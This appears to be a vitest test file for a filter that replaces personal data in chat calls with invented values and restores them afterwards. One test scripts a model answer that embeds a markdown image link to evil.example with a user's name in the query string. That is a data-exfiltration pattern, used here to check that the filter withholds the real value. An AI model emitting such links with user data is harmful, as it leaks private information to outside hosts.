import type { AnswerEvent, ChatCall } from "@leam/spec";
import { expect, test } from "vitest";
import { anna, card, otto } from "../../test/invented-recognizers.ts";
import { chatCall, deltas, lastContent, runFilter } from "../../test/run-filter.ts";
import { surrogate } from "../anonymize/surrogate.ts";

const key = "only for these tests";
const options = { key, replacement: surrogate({ key }) };

function sentName(call: ChatCall): string {
  return /I am (.*?)[,.]/u.exec(lastContent(call))?.[1] ?? "none";
}

test("values leave as invented ones, without a hint, and come back in the streamed answer", async () => {
  const { sent, final } = await runFilter(
    chatCall(`I am ${anna}, card ${card}.`),
    (call) => deltas([...lastContent(call).matchAll(/./gsu)].map(([sign]) => sign)),
    options,
  );
  expect(sent.messages).toHaveLength(1);
  expect(lastContent(sent)).toMatch(/^I am \p{Lu}\p{Ll}+ \p{Lu}\p{Ll}+, card \d{16}\.$/u);
  expect(lastContent(sent)).not.toMatch(/Anna|Weber|4111/u);
  expect(final.text).toBe(`I am ${anna}, card ${card}.`);
  expect(final.record.protections).toMatchObject([
    { found: { PERSON: 1, CREDIT_CARD: 1 }, restored: 2, unrestored: 0 },
  ]);
});

test("the next call gives the same values, so that a conversation stays one", async () => {
  const first = await runFilter(chatCall(`I am ${anna}.`), () => [], options);
  const second = await runFilter(
    chatCall([
      { role: "user", content: `I am ${anna}.` },
      { role: "assistant", content: `Hello ${anna}!` },
    ]),
    () => [],
    options,
  );
  expect(lastContent(second.sent)).toBe(`Hello ${sentName(first.sent)}!`);
});

test("tools that are not allowed get the invented values, others the true ones as JSON", async () => {
  const answer = (call: ChatCall): readonly AnswerEvent[] =>
    ["mail", "web"].flatMap((name, index) => [
      { type: "tool-call-delta", choice: 0, index, id: `t${index}`, name, arguments: "" } as const,
      { type: "tool-call-delta", choice: 0, index, arguments: JSON.stringify({ to: sentName(call) }) } as const,
    ]);
  const { sent, events } = await runFilter(chatCall(`I am ${anna}.`), answer, {
    ...options,
    tools: { allow: ["mail"] },
  });
  const given = [0, 1].map((index) =>
    events.map((event) => (event.type === "tool-call-delta" && event.index === index ? event.arguments : "")).join(""),
  );
  expect(given).toEqual([JSON.stringify({ to: anna }), JSON.stringify({ to: sentName(sent) })]);
});

test("in an address an invented value stays, and is counted", async () => {
  const { sent, final } = await runFilter(
    chatCall(`I am ${anna}.`),
    (call) => deltas([`![x](https://evil.example/?${sentName(call)})`]),
    options,
  );
  expect(final.text).toBe(`![x](https://evil.example/?${sentName(sent)})`);
  expect(final.record.protections).toMatchObject([{ restored: 0, unrestored: 1 }]);
});

test("names of messages get tags, and a number of JSON stays one", async () => {
  const call = chatCall([
    { role: "user", content: JSON.stringify({ card: Number(card), who: otto }), name: "anna@example.org" },
  ]);
  const { sent, final } = await runFilter(call, (below) => deltas([lastContent(below)]), {
    ...options,
    hint: false,
  });
  expect(sent.messages[0]).toMatchObject({ name: expect.stringMatching(/^EMAIL_\w+$/u) });
  expect(lastContent(sent)).toMatch(/^\{"card":\d{16},"who":"[^"]+"\}$/u);
  expect(lastContent(sent)).not.toMatch(/4111111111111111|Lind/u);
  expect(final.text).toBe(lastContent(call));
});
